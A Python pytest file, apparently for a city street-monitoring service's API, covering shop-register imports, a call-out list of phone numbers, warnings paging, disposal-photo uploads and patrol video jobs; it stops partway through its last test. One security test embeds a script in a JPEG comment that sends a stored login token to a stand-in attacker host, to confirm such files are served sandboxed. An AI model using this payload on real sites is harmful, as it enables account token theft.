"""The city workflows through the service's HTTP API: register, call-out list, disposal photos, patrol uploads."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import os
import re
import shutil
import sys
import threading
import time
import tracemalloc
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import unquote_plus

import httpx
import pytest
import schemathesis
import yaml
from fastapi.testclient import TestClient
from schemathesis.checks import content_type_conformance, response_schema_conformance, status_code_conformance

from api.job_retention import SWEEPING
from detect.digests import sha256_file
from detect.evidence.builder import BundleContext, EvidenceBuilder
from detect.evidence.config import EvidenceConfig
from detect.frames import GeoPoint
from pipelines.cases.intake import Intake
from pipelines.cases.store import CaseStore
from pipelines.settings import Settings
from pipelines.shops import Shop, ShopRegister
from tests.api_helpers import KEY, MODEL, auth, kept_per_job, make_app, settings_for
from tests.cctv_helpers import cbr_ts_copy, pattern_video, ts_copy
from tests.conftest import REPO, start_server, stop_process
from tests.pg import free_port
from tests.test_api_uploads import own_postgres  # noqa: F401  (fixture)
from tests.test_cityops_patrol import START, _fixes, clip, write_gpx, write_srt  # noqa: F401  (fixture)
from tests.test_cityops_registers import REGISTER


@pytest.fixture
def city(tmp_path, monkeypatch, onnx_detector):
    monkeypatch.setenv("STREETWATCH_EVIDENCE_KEY", KEY)
    settings = settings_for(tmp_path, dispatch={"targets": {"dcm": {"adapter": "cn-dcm", "url": "http://127.0.0.1:9/cn-dcm/cases"}}})
    app, tokens = make_app(settings, detector=onnx_detector)
    with TestClient(app, raise_server_exceptions=False) as client:
        yield app, client, tokens


def _intake(app) -> Intake:
    ctx = app.state.ctx
    return Intake(ctx.store, ctx.evidence, EvidenceBuilder(EvidenceConfig(), KEY.encode(), MODEL), ctx.settings.evidence_store.spool_dir)


def test_register_and_call_out_list_through_the_api(city, bus_event):
    app, client, tokens = city
    reviewer, inspector = auth(tokens["reviewer"]), auth(tokens["inspector"])
    answer = client.post("/api/v1/shops/import", headers=reviewer, files={"file": ("shops.csv", REGISTER.encode(), "text/csv")})
    assert answer.status_code == 200 and answer.json()["imported"] == 2 and len(answer.json()["errors"]) == 3
    edited = {"name": "王记面馆（新）", "frontages": [{"camera": "cam-01", "polygon": [[0.2, 0.5], [0.8, 0.5], [0.8, 1.0]]}]}
    assert client.put("/api/v1/shops/91330106MA27XY0001", headers=reviewer, json=edited).status_code == 200
    bad = client.put("/api/v1/shops/x1", headers=reviewer, json={"name": "x", "frontages": [{"polygon": [[0, 0], [1, 1]]}]})
    assert bad.status_code == 422 and "frontages.0.polygon" in bad.json()["detail"]
    shops = client.get("/api/v1/shops", headers=inspector).json()["items"]
    assert {s["name"] for s in shops} == {"王记面馆（新）", "李家水果"}

    # Two flyposting cases carrying one number (the real bus event's evidence stands in for the poster).
    event, _ = bus_event
    intake = _intake(app)
    for i in range(2):
        intake.record_event(replace(event, violation_id=f"photo:{i}:flyposting", violation_type="flyposting", phones=["13800138000"]),
                            BundleContext(source_kind="photo_batch", source_id="b1", geo=GeoPoint(30.2741, 120.1551),
                                          address="文三路 1 号", grid_cell="330106001001"))
    [entry] = client.get("/api/v1/callout", headers=inspector).json()["items"]
    assert (entry["number"], entry["count"], entry["status"], entry["status_zh"]) == ("13800138000", 2, "to_call", "待追呼")
    assert client.put("/api/v1/callout/13800138000", headers=reviewer, json={"status": "called"}).json()["status"] == "called"
    assert client.put("/api/v1/callout/13900000000", headers=reviewer, json={"status": "called"}).status_code == 404

    exported = client.get("/api/v1/callout/export?format=csv", headers=inspector)
    rows = list(csv.reader(exported.content.decode("utf-8-sig").splitlines()))
    rows[1][1], rows[1][10], rows[1][11] = "cut_off", "2026-11-12 10:00", "500"
    rows.append(["13900000000", "cut_off"] + [""] * 11)
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    result = client.post("/api/v1/callout/import", headers=reviewer, files={"file": ("r.csv", buf.getvalue().encode(), "text/csv")}).json()
    assert result["applied"] == 1 and result["unknown"] == ["13900000000"]
    assert client.get("/api/v1/callout/cutoffs?year=2026", headers=inspector).json() == {"2026-11": {"(未标注 none)": 1}}

    # A fine is a number >= 0 in a results file as in PUT; "nan"/"inf" were kept (and shown as no fine), "-5" kept,
    # and a cut-off date with no UTC equivalent was a 500.
    bad = "number,status,amount,cut_off_at\n" + "".join(f"13800138000,fined,{a},\n" for a in ("nan", "inf", "-5", "abc"))
    bad += "13800138000,cut_off,,0001-01-01\n"
    result = client.post("/api/v1/callout/import", headers=reviewer, files={"file": ("r.csv", bad.encode(), "text/csv")})
    assert result.status_code == 200 and result.json()["applied"] == 0, result.text
    assert [e.split(": ", 2)[2] for e in result.json()["errors"]] == [
        "amount: 'nan' is not an amount in yuan (a number >= 0)", "amount: 'inf' is not an amount in yuan (a number >= 0)",
        "amount: '-5' is not an amount in yuan (a number >= 0)", "amount: 'abc' is not an amount in yuan (e.g. 200 or 200元)",
        "cut_off_at: '0001-01-01' is out of range"]
    for amount in ("Infinity", "1e400", "NaN"):  # Python's JSON reads these; the list cannot keep them
        put = client.put("/api/v1/callout/13800138000", headers={**reviewer, "Content-Type": "application/json"},
                         content=f'{{"status": "fined", "amount": {amount}}}')
        assert put.status_code == 422, put.text
    assert client.get("/api/v1/callout", headers=inspector).json()["items"][0]["amount"] == 500
    xlsx = client.get("/api/v1/callout/export?format=xlsx", headers=inspector)
    assert xlsx.status_code == 200 and xlsx.content[:2] == b"PK"
    assert client.get("/api/v1/warnings", headers=inspector).json() == {"items": [], "total": 0, "limit": 200, "offset": 0}


@pytest.mark.parametrize("store", ["sqlite", "postgresql"])
def test_a_licence_number_another_shop_holds_is_refused_naming_that_shop(store, tmp_path, request):
    """The register holds a licence number once: a shop edited to its neighbour's number, or an import row with the
    number of a shop added by hand under another id, met the unique column and answered 500. The edit is 409 naming
    the number and the shop holding it (Chinese first), nothing written; the import names those rows among its errors
    and imports the rest."""
    url = request.getfixturevalue("fresh_postgres_url") if store == "postgresql" else None
    app, tokens = make_app(settings_for(tmp_path, cases_url=url), resume_jobs=False)
    reviewer = auth(tokens["reviewer"])
    frontage = {"camera": "cam-01", "polygon": [[0.3, 0.6], [0.7, 0.6], [0.7, 1.0]]}
    with TestClient(app, raise_server_exceptions=False) as client:
        assert client.post("/api/v1/shops/import", headers=reviewer, files={"file": ("shops.csv", REGISTER.encode())}).status_code == 200
        taken = client.put("/api/v1/shops/s1", headers=reviewer, json={"name": "赵记茶叶", "licence_no": "91330106MA27XY0002",
                                                                        "frontages": [frontage]})
        assert taken.status_code == 409, taken.text
        assert taken.json()["detail"] == ("营业执照号 91330106MA27XY0002 已登记在店铺 91330106MA27XY0002（李家水果）名下，未保存 — licence "
                                          "number 91330106MA27XY0002 is held by shop 91330106MA27XY0002 (李家水果) of the register: nothing saved")
        assert client.get("/api/v1/shops", params={"q": "赵记"}, headers=reviewer).json()["total"] == 0
        assert client.put("/api/v1/shops/s1", headers=reviewer,  # a number of its own is kept, as before
                          json={"name": "赵记茶叶", "licence_no": "91330106MA27XY0009", "frontages": [frontage]}).status_code == 200
        sheet = ("name,licence_no,camera,polygon\n钱记烟酒,91330106MA27XY0008,cam-01,\"0.3,0.6; 0.7,0.6; 0.7,1.0\"\n"
                 "赵记茶叶,91330106MA27XY0009,cam-01,\"0.3,0.6; 0.7,0.6; 0.7,1.0\"\n赵记茶叶,,cam-02,\"0.3,0.6; 0.7,0.6; 0.7,1.0\"\n")
        answer = client.post("/api/v1/shops/import", headers=reviewer, files={"file": ("more.csv", sheet.encode())})
        assert answer.status_code == 200, answer.text
        assert answer.json()["shops"] == ["91330106MA27XY0008"]
        assert answer.json()["errors"] == [
            f"more.csv 第 {n} 行「营业执照号」：营业执照号 91330106MA27XY0009 已登记在店铺 s1（赵记茶叶）名下，本行未导入 — more.csv: row {n}: "
            "licence_no: 91330106MA27XY0009 is held by shop s1 (赵记茶叶) of the register: row not imported" for n in (3, 4)]
        listed = client.get("/api/v1/shops", headers=reviewer).json()["items"]
        assert sorted(s["id"] for s in listed) == ["91330106MA27XY0001", "91330106MA27XY0002", "91330106MA27XY0008", "s1"]
    app.state.ctx.close()


@pytest.mark.parametrize("store", ["sqlite", "postgresql"])
def test_an_import_may_move_licence_numbers_between_its_shops(store, tmp_path, request):
    """Checked shop by shop in file order, a number moving to a shop of the file from another of it was refused when
    the receiving shop's row came first, and two shops swapping theirs were both refused. The state the import leaves
    is what is checked: the swap is imported; a shop refused keeps its number, and a row given that number is refused
    naming it."""
    url = request.getfixturevalue("fresh_postgres_url") if store == "postgresql" else None
    app, tokens = make_app(settings_for(tmp_path, cases_url=url), resume_jobs=False)
    reviewer = auth(tokens["reviewer"])
    frontage = {"camera": "cam-01", "polygon": [[0.3, 0.6], [0.7, 0.6], [0.7, 1.0]]}
    number = "91330106MA27XY00{:02d}".format
    with TestClient(app, raise_server_exceptions=False) as client:
        for shop, name, licence in [(1, "王记面馆", 9), (2, "李家水果", 1), (1, "王记面馆", 2),  # typed on each other
                                    (20, "孙记五金", 4), (4, "钱记烟酒", 5)]:  # 孙记 holds 钱记's own number
            put = client.put(f"/api/v1/shops/{number(shop) if shop < 20 else 's20'}", headers=reviewer,
                             json={"name": name, "licence_no": number(licence), "frontages": [frontage]})
            assert put.status_code == 200, put.text
        polygon = '"0.3,0.6; 0.7,0.6; 0.7,1.0"'
        sheet = (f"name,licence_no,camera,polygon\n李家水果,{number(2)},cam-01,{polygon}\n王记面馆,{number(1)},cam-01,{polygon}\n"
                 f"赵记茶叶,{number(5)},cam-01,{polygon}\n钱记烟酒,{number(4)},cam-01,{polygon}\n")
        answer = client.post("/api/v1/shops/import", headers=reviewer, files={"file": ("fix.csv", sheet.encode())})
        assert answer.status_code == 200, answer.text
        assert sorted(answer.json()["shops"]) == [number(1), number(2)]
        assert answer.json()["errors"] == [
            f"fix.csv 第 4 行「营业执照号」：营业执照号 {number(5)} 已登记在店铺 {number(4)}（钱记烟酒）名下，本行未导入 — fix.csv: row 4: "
            f"licence_no: {number(5)} is held by shop {number(4)} (钱记烟酒) of the register: row not imported",
            f"fix.csv 第 5 行「营业执照号」：营业执照号 {number(4)} 已登记在店铺 s20（孙记五金）名下，本行未导入 — fix.csv: row 5: "
            f"licence_no: {number(4)} is held by shop s20 (孙记五金) of the register: row not imported"]
        listed = client.get("/api/v1/shops", headers=reviewer).json()["items"]
        assert {s["id"]: s["licence_no"] for s in listed} == {number(1): number(1), number(2): number(2),
                                                             number(4): number(5), "s20": number(4)}
    app.state.ctx.close()


def test_the_register_is_listed_a_page_at_a_time_and_searched(city):
    """GET /shops answered the whole register at once, which /ui/city put in one table: a district's 2,000 shops,
    400 KB, with no way to find one but the browser's search. It answers a page by name with the total, and `q` finds
    a shop by its id, name, address, licence number or contact, its %, _ as written."""
    app, client, tokens = city
    register = ShopRegister(app.state.ctx.store.engine)
    for i in range(250):
        register.put(Shop(id=f"91330106MA{i:08d}", name=f"商户{i:03d}号店", address=f"文三路 {i} 号",
                          contact="张三 13800001111" if i == 7 else None))
    register.put(Shop(id="s100pct", name="100%_纯净水"))
    inspector = auth(tokens["inspector"])
    first = client.get("/api/v1/shops", headers=inspector).json()
    assert (len(first["items"]), first["total"], first["limit"]) == (200, 251, 200)
    rest = client.get("/api/v1/shops", params={"offset": 200}, headers=inspector).json()["items"]
    assert len(rest) == 51 and rest[-1]["name"] == "商户249号店"  # by name, the rest of them
    found = lambda q: [s["id"] for s in client.get("/api/v1/shops", params={"q": q}, headers=inspector).json()["items"]]
    assert found("13800001111") == ["91330106MA00000007"] and found("文三路 24") == [f"91330106MA{i:08d}" for i in (24, *range(240, 250))]
    assert found("%_") == ["s100pct"] and found("ma00000012") == ["91330106MA00000012"]
    assert client.get("/api/v1/shops", params={"q": "a\x00"}, headers=inspector).status_code == 422


def numbers_on_the_list(engine, n: int) -> list[str]:
    """`n` numbers on the call-out list, as years of flyposting cases leave it (the newest last seen first), the
    fifth of them cut off; their numbers, last seen first."""
    from datetime import timedelta

    from pipelines.cases.schema import callout_numbers

    start = datetime(2026, 1, 1, tzinfo=UTC)
    rows = [{"number": f"1390000{i:04d}", "first_seen": start + timedelta(hours=i), "last_seen": start + timedelta(hours=i),
             "count": 1, "places": [], "cases": [], "photos": [], "status": "cut_off" if i % 5 == 0 else "to_call",
             "updated_at": start} for i in range(n)]
    with engine.begin() as conn:
        conn.execute(callout_numbers.insert(), rows)
    return [r["number"] for r in reversed(rows)]


def test_the_call_out_list_is_listed_a_page_at_a_time_and_searched(city):
    """GET /callout answered every number at once, which /ui/city listed with a status menu each: a district's
    hundreds of numbers, 600 KB. It answers a page, last seen first, with the total, and `q` finds a number."""
    app, client, tokens = city
    numbers = numbers_on_the_list(app.state.ctx.store.engine, 250)
    inspector = auth(tokens["inspector"])
    first = client.get("/api/v1/callout", headers=inspector).json()
    assert ([e["number"] for e in first["items"]], first["total"], first["limit"]) == (numbers[:200], 250, 200)
    rest = client.get("/api/v1/callout", params={"offset": 200}, headers=inspector).json()
    assert [e["number"] for e in rest["items"]] == numbers[200:]
    cut = client.get("/api/v1/callout", params={"status": "cut_off", "limit": 20}, headers=inspector).json()
    assert (cut["total"], len(cut["items"]), {e["status"] for e in cut["items"]}) == (50, 20, {"cut_off"})
    found = client.get("/api/v1/callout", params={"q": "00012"}, headers=inspector).json()
    assert [e["number"] for e in found["items"]] == [f"139000001{i}" for i in range(29, 19, -1)] + ["13900000012"]
    assert found["total"] == 11


def test_the_call_out_list_syncs_only_when_the_cases_changed_and_lists_a_numbers_newest_cases(city, bus_event, monkeypatch):
    """Each GET /callout synced every flyposting case and wrote every number (0.6-3 s at 3,300 cases), and each entry
    carried every case id and photo, though the page shows their count. It syncs when the flyposting cases changed,
    a new case still counted, or the list's table did (emptied under the service, as a restore or another process
    would: it was not rebuilt until a case changed), not for a status set; the list carries the newest few ids,
    GET /callout/{number} them all with the photos."""
    from pipelines.cases.schema import callout_numbers
    from pipelines.cityops.callout import CallOutList

    app, client, tokens = city
    inspector, reviewer = auth(tokens["inspector"]), auth(tokens["reviewer"])
    synced = []
    sync = CallOutList._sync
    monkeypatch.setattr(CallOutList, "_sync", lambda self: synced.append(1) or sync(self))
    event, _ = bus_event
    intake = _intake(app)

    def poster(i: int) -> None:
        intake.record_event(replace(event, violation_id=f"photo:{i}:flyposting", violation_type="flyposting", phones=["13800138000"]),
                            BundleContext(source_kind="photo_batch", source_id="b1", geo=GeoPoint(30.2741, 120.1551),
                                          address=f"文三路 {i} 号", grid_cell="330106001001"))

    for i in range(6):
        poster(i)
    [entry] = client.get("/api/v1/callout", headers=inspector).json()["items"]
    assert client.get("/api/v1/callout", headers=inspector).json()["items"] == [entry] and len(synced) == 1  # unchanged: not again
    full = client.get("/api/v1/callout/13800138000", headers=inspector).json()
    assert len(synced) == 1 and (full["count"], len(full["cases"]), len(full["photos"]), len(full["places"])) == (6, 6, 6, 6)
    assert entry["count"] == 6 and entry["recent_cases"] == full["cases"][::-1][:5]  # the newest five, newest first
    assert not {"cases", "photos", "places"} & set(entry)
    assert client.put("/api/v1/callout/13800138000", headers=reviewer, json={"status": "called"}).status_code == 200
    [entry] = client.get("/api/v1/callout", headers=inspector).json()["items"]
    assert (entry["status"], len(synced)) == ("called", 1)  # a status set: the sightings stand, not synced again
    with app.state.ctx.store.engine.begin() as conn:  # the table emptied, the cases as they were (a restore would)
        conn.execute(callout_numbers.delete())
    [again] = client.get("/api/v1/callout", headers=inspector).json()["items"]
    assert (again["number"], again["count"], again["status"], len(synced)) == ("13800138000", 6, "to_call", 2)
    poster(6)  # a new flyposting case: counted at the next GET
    [entry] = client.get("/api/v1/callout", headers=inspector).json()["items"]
    assert (entry["count"], len(synced)) == (7, 3)
    assert entry["recent_cases"][0] == client.get("/api/v1/callout/13800138000", headers=inspector).json()["cases"][-1]
    missing = client.get("/api/v1/callout/13900000000", headers=inspector)
    assert missing.status_code == 404 and missing.json()["detail"] == "number '13900000000' is not on the call-out list"


def test_warnings_are_listed_a_page_at_a_time_with_how_many_there_are(city):
    """GET /warnings answered the newest 200 alone, so a district's thousands of warnings a year showed as 200 on
    /ui/city, the rest out of reach and nothing saying so. It answers a page, with the total the filters match."""
    from datetime import timedelta

    from pipelines.cases.schema import warnings

    app, client, tokens = city
    start = datetime(2026, 1, 1, tzinfo=UTC)
    rows = [{"id": f"w{i:03d}", "violation_id": f"v{i}", "violation_type": "outside_store_operation", "camera_id": f"cam-0{i % 2}",
             "state": "warned" if i % 5 else "lapsed", "warned_at": start + timedelta(hours=i),
             "recheck_at": start + timedelta(hours=i, minutes=30), "details": {}} for i in range(250)]
    with app.state.ctx.store.engine.begin() as conn:
        conn.execute(warnings.insert(), rows)
    inspector = auth(tokens["inspector"])
    first = client.get("/api/v1/warnings", headers=inspector).json()
    assert (len(first["items"]), first["total"], first["items"][0]["id"]) == (200, 250, "w249")  # newest first
    rest = client.get("/api/v1/warnings", params={"offset": 200}, headers=inspector).json()
    assert [w["id"] for w in rest["items"]] == [f"w{i:03d}" for i in range(49, -1, -1)]
    lapsed = client.get("/api/v1/warnings", params={"state": "lapsed", "camera_id": "cam-00", "limit": 10}, headers=inspector).json()
    assert (lapsed["total"], len(lapsed["items"]), lapsed["limit"]) == (25, 10, 10)
    assert client.get("/api/v1/warnings", params={"limit": 501}, headers=inspector).status_code == 422


def test_disposal_photo_through_the_api(city, bus_event, zidane_jpg):
    app, client, tokens = city
    event, _ = bus_event
    store = app.state.ctx.store
    case = _intake(app).record_event(replace(event, violation_id="photo:bus:illegal_parking"),
                                     BundleContext(source_kind="photo_batch", source_id="b1", geo=GeoPoint(30.2741, 120.1551)))
    integration = auth(tokens["integration"])
    early = client.post(f"/api/v1/cases/{case.id}/disposal-photo", headers=integration,
                        files={"file": ("after.jpg", zidane_jpg.read_bytes(), "image/jpeg")})
    assert early.status_code == 409 and "is candidate" in early.json()["detail"]
    store.review(case.id, approve=True, reviewer="li", target="dcm")
    [entry] = store.claim_due()
    store.mark_delivered(entry.id, "DCM-7")
    bad = client.post(f"/api/v1/cases/{case.id}/disposal-photo", headers=integration,
                      files={"file": ("after.jpg", b"GIF89a-not-really", "image/jpeg")})
    assert bad.status_code == 422 and "after.jpg" in bad.json()["detail"]
    # a URL off the dispatch target's host (127.0.0.1:9 here) is not fetched: no request is even tried
    inside = client.post(f"/api/v1/cases/{case.id}/disposal-photo", headers=integration, json={"url": "http://127.0.0.1:10/after.jpg"})
    assert inside.status_code == 422 and "127.0.0.1:10 is not a host photos are fetched from" in inside.json()["detail"], inside.text
    done = client.post(f"/api/v1/cases/{case.id}/disposal-photo", headers=integration,
                       files={"file": ("after.jpg", zidane_jpg.read_bytes(), "image/jpeg")})
    assert done.status_code == 200, done.text
    assert done.json()["state"] == "verified_cleared" and done.json()["cleared"] is True
    assert store.get(case.id).verification_ref == "verification/verification_1.jpg"


def test_a_disposal_photo_named_as_a_page_is_kept_and_served_as_the_photo_it_is(city, bus_event, zidane_jpg):
    """The evidence kept a disposal photo under the suffix of the name it was sent with and served it with the type that
    suffix says: a real JPEG whose comment holds a script, sent as `after.html` by the platform (or fetched from a URL
    ending so), came back from its evidence link as text/html of the service's own origin, where the pages keep the
    token. It is stored by its format (.jpg), and every evidence file is served in a sandbox without scripts."""
    app, client, tokens = city
    event, _ = bus_event
    store = app.state.ctx.store
    case = _intake(app).record_event(replace(event, violation_id="photo:bus:illegal_parking"),
                                     BundleContext(source_kind="photo_batch", source_id="b1", geo=GeoPoint(30.2741, 120.1551)))
    store.review(case.id, approve=True, reviewer="li", target="dcm")
    [entry] = store.claim_due()
    store.mark_delivered(entry.id, "DCM-7")
    script = b"<script>fetch('//evil.example/?' + localStorage.sw_token)</script>"
    jpeg = zidane_jpg.read_bytes()
    polyglot = jpeg[:2] + b"\xff\xfe" + (len(script) + 2).to_bytes(2, "big") + script + jpeg[2:]  # a COM segment after SOI
    sent = client.post(f"/api/v1/cases/{case.id}/disposal-photo", headers=auth(tokens["integration"]),
                       files={"file": ("after.html", polyglot, "text/html")})
    assert sent.status_code == 200, sent.text
    stored = json.loads(app.state.ctx.evidence.read_bytes(store.get(case.id).evidence_ref, "manifest.json"))["artifacts"]
    [original] = [a for a in stored if a["path"].startswith("verification/") and "_original" in a["path"]]
    assert original["path"].endswith("_original.jpg") and original["content_type"] == "image/jpeg", original
    served = client.get(app.state.ctx.signer.url(case.id, original["path"]))
    assert served.status_code == 200 and served.content == polyglot  # the bytes as received
    assert served.headers["content-type"] == "image/jpeg"
    assert served.headers["content-security-policy"] == "sandbox" and served.headers["x-content-type-options"] == "nosniff"


@pytest.mark.slow  # schemathesis loads the app's whole document (~3 s) and the detector judges the photo
def test_a_client_built_from_the_document_sends_the_disposal_photo_and_the_webhook(city, bus_event, zidane_jpg):
    """The two routes reading their body themselves declared none in /openapi.json (test_api), so a generated client
    could not send the photo or the platform's status: calls built from the declared bodies, as schemathesis builds
    them (the platform's JSON; a multipart `file`), are taken and answered as documented."""
    app, _, tokens = city
    event, _ = bus_event
    store, integration = app.state.ctx.store, auth(tokens["integration"])
    case = _intake(app).record_event(replace(event, violation_id="photo:bus:illegal_parking"),
                                     BundleContext(source_kind="photo_batch", source_id="b1", geo=GeoPoint(30.2741, 120.1551)))
    store.review(case.id, approve=True, reviewer="li", target="dcm")
    [entry] = store.claim_due()
    store.mark_delivered(entry.id, "DCM-7")
    schema = schemathesis.openapi.from_asgi("/openapi.json", app)
    calls = [(schema["/api/v1/dispatch/{target}/webhook"]["POST"].Case(
                  path_parameters={"target": "dcm"}, media_type="application/json",
                  body={"taskNumber": "DCM-7", "externalId": case.id, "status": "立案", "note": "已受理"}), "accepted"),
             (schema["/api/v1/cases/{case_id}/disposal-photo"]["POST"].Case(
                  path_parameters={"case_id": case.id}, media_type="multipart/form-data",
                  body={"file": zidane_jpg.read_bytes()}), "verified_cleared")]
    for call, state in calls:
        answer = call.call(headers=integration)
        assert answer.status_code == 200 and answer.json()["state"] == state, answer.text
        call.validate_response(answer, checks=[status_code_conformance, content_type_conformance, response_schema_conformance])
    assert store.get(case.id).verification_ref == "verification/verification_1.jpg"


@pytest.mark.parametrize("verifier, why", [
    ("street-v99", "service.triage.verifier: verifier 'street-v99' not found in models/verifiers"),
    ("cards/street.yaml", "service.triage.verifier: not a verifier card"),
])
def test_a_verifier_that_cannot_judge_is_a_503_naming_its_setting_not_its_folder(tmp_path, monkeypatch, onnx_detector,
                                                                                  bus_event, zidane_jpg, caplog, verifier, why):
    """A disposal photo checked while `service.triage.verifier` could not be loaded was answered 503 `cannot judge
    photos: ` and the verifier's error as is, in English only and with the server's path of the model folder or card
    (`verifier 'street-v99' not found in /srv/.../models/verifiers`); the folders and the card are named by what names
    them (`models/verifiers`, `service.triage.verifier`), Chinese first, the server log keeping the full error."""
    import logging

    monkeypatch.setenv("STREETWATCH_EVIDENCE_KEY", KEY)
    (tmp_path / "cards").mkdir()
    (tmp_path / "cards" / "street.yaml").write_text("kind: [", encoding="utf-8")
    card = str(tmp_path / verifier) if verifier.endswith(".yaml") else verifier
    app, tokens = make_app(settings_for(tmp_path, triage={"verifier": card}), detector=onnx_detector)
    event, _ = bus_event
    case = _intake(app).record_event(replace(event, violation_id="photo:bus:illegal_parking"),
                                     BundleContext(source_kind="photo_batch", source_id="b1", geo=GeoPoint(30.2741, 120.1551)))
    with TestClient(app, raise_server_exceptions=False) as client, caplog.at_level(logging.ERROR, logger="api.problems"):
        refused = client.post(f"/api/v1/cases/{case.id}/disposal-photo", headers=auth(tokens["integration"]),
                              files={"file": ("after.jpg", zidane_jpg.read_bytes(), "image/jpeg")})
    assert refused.status_code == 503 and refused.json()["type"].endswith(":verifier-unavailable"), refused.text
    assert refused.json()["detail"].startswith(f"照片无法判定，请联系管理员 cannot judge photos: {why}"), refused.json()["detail"]
    assert str(REPO) not in refused.text and str(tmp_path) not in refused.text
    assert (str(REPO / "models" / "verifiers") if verifier == "street-v99" else card) in caplog.text  # the log keeps it


def test_several_model_folders_are_named_by_their_place_in_streetwatch_models(tmp_path, monkeypatch):
    """Every folder of `$STREETWATCH_MODELS` was named `$STREETWATCH_MODELS` in what the API answers, so with several
    an admin could not tell which one an error meant; each is named by its place in it, counted from 1."""
    from api.config import named_files
    from detect.verifier import VerifierError, find_card

    monkeypatch.setenv("STREETWATCH_MODELS", os.pathsep.join([str(tmp_path / "a"), str(tmp_path / "b")]))
    settings = settings_for(tmp_path, triage={"verifier": "street-v99"})
    with pytest.raises(VerifierError) as err:
        find_card("street-v99")
    named = settings.named_by_setting(str(err.value), files=named_files(settings.service))
    assert named.startswith("verifier 'street-v99' not found in $STREETWATCH_MODELS[1]/verifiers, "
                            "$STREETWATCH_MODELS[2]/verifiers, models/verifiers"), named
    monkeypatch.setenv("STREETWATCH_MODELS", str(tmp_path / "a"))  # one folder: its name alone
    assert [name for name, _ in named_files(settings.service)][0] == "$STREETWATCH_MODELS"


def _finished(client, headers, *jobs: dict) -> list[dict]:
    """The patrol jobs polled until each is done or failed (or 240 s have passed)."""
    deadline = time.monotonic() + 240
    while True:
        jobs = tuple(client.get(f"/api/v1/patrol/jobs/{j['id']}", headers=headers).json() for j in jobs)
        if all(j["state"] in ("done", "failed") for j in jobs) or time.monotonic() > deadline:
            return list(jobs)
        time.sleep(0.1)  # a job done is seen within 0.1 s, not up to 0.5 s later (this file waits on 17)


def test_a_patrol_job_finding_the_case_store_unreachable_says_so_without_naming_it(city, clip, tmp_path, onnx_detector, caplog):  # noqa: F811
    """Soak (the database restarted under `serve`): a patrol job running then failed with the store's URL and the
    driver's words shown to the inspector (a SQLite file's server path) and nothing in the server log; it says what a
    photo upload's job says (`api.jobs.STORE_DOWN`), the log keeping the store and the reason."""
    from tests.test_api_uploads import _ended, _store_gone_on_first_use

    app, client, tokens = city
    app.state.ctx.service.store_wait_s = 0  # fails at once (the wait: the PostgreSQL test below)
    inspector = auth(tokens["inspector"])
    database = tmp_path / "cases.db"
    aside = _store_gone_on_first_use(app, onnx_detector, database)
    srt_path = write_srt(tmp_path / "drive.srt", _fixes(START, 30), START)
    created = client.post("/api/v1/patrol/jobs", headers=inspector, files={"video": ("巡查 0310.mp4", clip.read_bytes(), "video/mp4"),
                                                                         "track": ("drive.srt", srt_path.read_bytes(), "text/plain")})
    assert created.status_code == 202, created.text
    job_id = created.json()["id"]
    _ended(tmp_path / "service" / "patrol" / job_id)
    aside.rename(database)
    job = client.get(f"/api/v1/patrol/jobs/{job_id}", headers=inspector).json()
    assert job["state"] == "failed" and job["error"].startswith("案件库暂时无法连接，任务未完成，请稍后重新上传"), job["error"]
    assert str(tmp_path) not in job["error"]
    logged = [r for r in caplog.records if r.getMessage() == f"patrol job {job_id} failed"]
    assert logged and str(database) in str(logged[0].exc_info[1])


@pytest.mark.slow  # 10 s: a patrol job waiting out a store outage (test_api_uploads keeps the upload job's in the default suite); the default suite's ~15-minute budget
def test_a_patrol_job_finding_the_case_store_unreachable_waits_for_it_and_goes_on_where_it_was(
        tmp_path, monkeypatch, onnx_detector, clip, own_postgres):  # noqa: F811
    """A patrol job that met the store gone (PostgreSQL restarted under `serve`) failed at once, though a photo
    upload's job waits for it: it waits as that does (`api.jobs.waiting_for_store`, 等待案件库恢复…, phase `store`) and
    once the store is back ends done where it was: no frame judged again, the case it had drafted not drafted twice."""
    from api.routers.cityops import _patrol_progress
    from tests.pg import pg_ctl
    from tests.test_api_uploads import CountingDetector, _store_stopped_mid_case, _waiting

    root, url = own_postgres
    monkeypatch.setenv("STREETWATCH_EVIDENCE_KEY", KEY)
    detector = CountingDetector(onnx_detector)
    app, tokens = make_app(settings_for(tmp_path, cases_url=url, store_wait_s=300), detector=detector)
    _store_stopped_mid_case(monkeypatch, root)
    inspector = auth(tokens["inspector"])
    track = write_srt(tmp_path / "drive.srt", _fixes(START, 30), START).read_bytes()
    with TestClient(app, raise_server_exceptions=False) as client:
        created = client.post("/api/v1/patrol/jobs", headers=inspector, files={
            "video": ("巡查 0310.mp4", clip.read_bytes(), "video/mp4"), "track": ("drive.srt", track, "text/plain")})
        assert created.status_code == 202, created.text
        folder = app.state.ctx.service.patrol_dir / created.json()["id"]
        waiting = _waiting(folder)
        assert waiting["state"] == "running" and waiting["waiting"].startswith("等待案件库恢复… the case store cannot be reached"), waiting
        assert _patrol_progress(app.state.ctx, folder, waiting).phase == "store"
        judged = detector.images
        assert judged == 15  # every frame sampled was judged before the outage
        pg_ctl(root, "restart")  # back on the same port
        [job] = _finished(client, inspector, created.json())
    assert job["state"] == "done" and job["error"] is None and job["waiting"] is None, job
    assert job["progress"] == {"phase": "done", "done": 15, "total": 15, "rate": None, "eta_s": None}
    assert detector.images == judged  # the frames judged before the outage were not judged again
    cases = app.state.ctx.store.list(source_id="patrol:巡查 0310")
    assert sorted(c.id for c in cases) == sorted(job["summary"]["cases"]) and len(cases) >= 1  # each drafted once
    assert all(c.evidence_ref for c in cases)


def test_patrol_upload_runs_like_the_command(city, clip, tmp_path):  # noqa: F811
    app, client, tokens = city
    srt_path = write_srt(tmp_path / "drive.srt", _fixes(START, 30), START)
    inspector = auth(tokens["inspector"])
    bad = client.post("/api/v1/patrol/jobs", headers=inspector, files={"video": ("drive.mp4", clip.read_bytes(), "video/mp4"),
                                                                     "track": ("drive.kml", b"<kml/>", "application/xml")})
    assert bad.status_code == 415 and "drive.kml" in bad.json()["detail"]
    job = client.post("/api/v1/patrol/jobs", headers=inspector, files={"video": ("巡查 0310.mp4", clip.read_bytes(), "video/mp4"),
                                                                     "track": ("drive.srt", srt_path.read_bytes(), "text/plain")}).json()
    nogps = client.post("/api/v1/patrol/jobs", headers=inspector, files={"video": ("drive.mp4", clip.read_bytes(), "video/mp4")})
